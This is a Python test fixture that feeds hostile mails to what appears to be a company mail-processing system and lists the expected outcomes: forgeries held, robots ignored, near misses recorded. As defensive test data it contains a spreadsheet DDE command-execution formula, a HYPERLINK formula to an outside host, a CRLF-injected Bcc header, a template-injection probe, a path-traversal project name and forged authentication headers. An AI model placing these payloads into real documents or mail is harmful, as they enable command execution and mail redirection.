"""domain §9 in mails: forgers, robots, loops and near misses. Nothing counts, nobody outside is written to."""

from __future__ import annotations

from tests.stories.department import MX, OUTSIDE
from tests.stories.mail import mail, report
from tests.stories.story import Answer, Back, Noise, Once, Story

TO = {"to": ("周九",), "cc": ("吴十", "技术支持 <support@tech.example>")}
WROTE = ("技服：李四", "没有报告。")
FORMULAS = report(
    contact='=HYPERLINK("http://outside.example","李工")', problem="=cmd|' /C calc'!A0 远程执行", leftover="@SUM(1+1)"
)
REPORT_TYPE = "multipart/report; report-type=delivery-status; boundary=b"
BOUNCED = """\
--b
Content-Type: text/plain

The message could not be delivered.
--b
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.outside.example

Final-Recipient: rfc822; lisi@tech.example
Action: failed
Status: 5.1.1
--b--
"""

STORY = Story(
    name="hostile",
    steps=(
        # Forged in four ways: unverified, two From headers, a roster address as display name, a verdict brought along.
        mail("unverified", "10-09 09:00", "赵六", "投诉-ERP项目", *WROTE, "一", auth="fail", **TO),
        mail("twofroms", "10-09 09:01", "赵六", "投诉-ERP项目", *WROTE, "二",
             headers=(("From", "周九 <zhoujiu@tech.example>"),), **TO),
        mail("display", "10-09 09:02", '"zhaoliu@sales.example" <thief@outside.example>', "投诉-ERP项目", *WROTE,
             "三", **TO),
        mail("brought", "10-09 09:03", "赵六", "投诉-ERP项目", *WROTE, "四", auth="none",
             headers=(("Authentication-Results", f"{MX}; dmarc=pass header.from=sales.example"),), **TO),
        # Two people are called 张三: never guessed. Then another mail under the same Message-ID.
        mail("shared", "10-09 09:04", "赵六", "投诉-ERP项目", "技服：张三", "没有报告。", **TO),
        mail("reused", "10-09 09:05", "赵六", "投诉-ERP项目", *WROTE, "五", message_id="<shared@sales.example>", **TO),
        mail("sharedreport", "10-09 09:06", "张三(华东)", "客户沟通-CRM项目-张三", *report()),
        # Robots; and a list, which only passes on what a colleague wrote: the manager is asked.
        mail("robot", "10-09 09:10", "赵六", "投诉-ERP项目", *WROTE, headers=(("Auto-Submitted", "auto-generated"),),
             **TO),
        mail("away", "10-09 09:11", "赵六", "自动回复: 投诉-ERP项目", *WROTE, **TO),
        mail("list", "10-09 09:12", "赵六", "投诉-ERP项目", *WROTE, headers=(("List-Id", "<all.sales.example>"),),
             **TO),
        mail("bounce", "10-09 09:13", "MAILER-DAEMON@outside.example", "Undelivered Mail Returned to Sender",
             verbatim=(REPORT_TYPE, BOUNCED)),
        # Near misses: one from inside, one from outside; a subject that would like to be headers.
        mail("miss", "10-09 09:20", "李四", "客户沟通-ERP项目", *report()),
        mail("missoutside", "10-09 09:21", OUTSIDE, "客户沟通-ERP项目", "请问什么时候来？"),
        mail("headers", "10-09 09:22", "李四", "客户沟通-ERP项目\r\nBcc: thief@outside.example\r\n\r\n某某", *report()),
        # Formulas in a good report, a template as a project, a path as a project.
        mail("formulas", "10-09 09:30", "李四", "客户沟通-ERP项目-李四", *FORMULAS),
        mail("template", "10-09 09:31", "李四", "客户沟通-{{7*7}}项目-李四", *report()),
        mail("path", "10-09 09:32", "钱七", "立项-../../../外面项目", "客户：=1+1", "第一责任售前：李四"),
        Noise("10-09 09:33", b"\x00\xff\xfe not a mail \x80" * 40),
        Once("10-09 10:00"),
        # Loops: our own notices come back, as they are and under another name.
        Back("10-09 10:05", ("held", "周九", "held:1")),
        Back("10-09 10:06", ("correction", "张三(华东)", "客户沟通")),
        mail("ownaddress", "10-09 10:07", "技术支持助手 <support@tech.example>", "投诉-ERP项目", *WROTE, "六"),
        # Somebody outside, and an engineer, answer what only the manager was asked.
        Answer("stranger", "10-09 10:10", OUTSIDE, ("held", "周九", "held:1"), ("确认",)),
        Answer("notasked", "10-09 10:11", "李四", ("held", "周九", "held:1"), ("驳回",)),
        Once("10-09 10:30"),
    ),
    mails={
        **dict.fromkeys(("unverified", "twofroms", "display", "brought"), "held"),
        "shared": "held held",
        "sharedreport": "near_miss",
        **dict.fromkeys(("robot", "away"), "automatic"),
        "list": "held",
        "bounce": "bounce",
        "miss": "near_miss",
        "missoutside": "recorded",
        "headers": "near_miss",
        **dict.fromkeys(("formulas", "template", "path"), "recorded"),
        "nothing": "unmatched",
        "notice": "own own",
        "ownaddress": "own",
        **dict.fromkeys(("stranger", "notasked"), "discussion"),
    },
    complaints=tuple(
        (mail_id, None, "2026-10", "held") for mail_id in ("unverified", "twofroms", "display", "brought", "shared")
    ),
    records=(
        ("formulas", "ERP项目", "李四", "李四", "成功", "complete"),
        ("template", "{{7*7}}项目", "李四", None, "成功", "complete"),
    ),
    cases=(
        ("customer_problem", "missoutside", None, "new"),
        ("registration_request", "template", None, "asked"),
    ),
    held=(
        ("unverified", "complaint", "sender_unverified", None),
        ("twofroms", "complaint", "sender_unknown", None),
        ("display", "complaint", "name_not_address", None),
        ("brought", "complaint", "sender_unverified", None),
        ("shared", "complaint", "engineer_unclear", None),
        ("shared", "mail", "message_id_reused", None),
        ("list", "mail", "list_mail", None),
    ),
    notices={
        ("held", "周九"): 7,
        ("correction", "李四"): 2,
        ("correction", "张三(华东)"): 1,
        ("registration_request", "周九"): 1,
    },
)  # fmt: skip
